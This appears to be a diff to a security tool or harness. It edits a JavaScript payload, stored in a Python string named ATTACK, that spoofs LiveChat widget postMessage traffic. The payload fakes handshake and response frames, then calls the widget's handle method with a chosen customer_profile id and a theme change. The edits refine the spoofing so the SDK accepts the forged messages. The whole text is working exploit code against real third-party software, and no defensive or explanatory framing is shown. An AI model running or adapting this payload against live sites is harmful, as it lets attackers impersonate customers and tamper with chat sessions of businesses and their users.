@@ -48,8 +48,9 @@ ATTACK = """([where, said, id]) => {
   const event = { event_name: "livechat:customer_profile", event_data: { id } };
   const theme = { event_name: "livechat:change_theme", event_data: { theme: "dark" } };
   const call = (data) => ["call", { method: "handle", args: [data] }];
+  const answer = ["response", { error: false, result: null }]; // to the SDK's first call
   const all = {
-    opening: [["handshake", {}], ["handshake_echo"], ["handshake_echo"], ["handshake_echo"]],
+    opening: [["handshake", {}], ...Array(4).fill(["handshake_echo"]), answer],
     calling: [call(event), call(theme)],
   };
   const wanted = said.flatMap((kind) => all[kind]);
@@ -58,7 +59,7 @@ ATTACK = """([where, said, id]) => {
     const target = new Function(`return ${where}`)();
     if (!target) return;
     const [type, data] = wanted[turn++ % wanted.length];
-    const message = { owner: "stranger", instance: 0, request: turn, type, data };
+    const message = { owner: "stranger", instance: 0, request: 0, type, data };
     target.postMessage({ "@@livechat/postmessenger": true, ...message }, "*");
     target.postMessage(event, "*");
     target.postMessage(theme, "*");
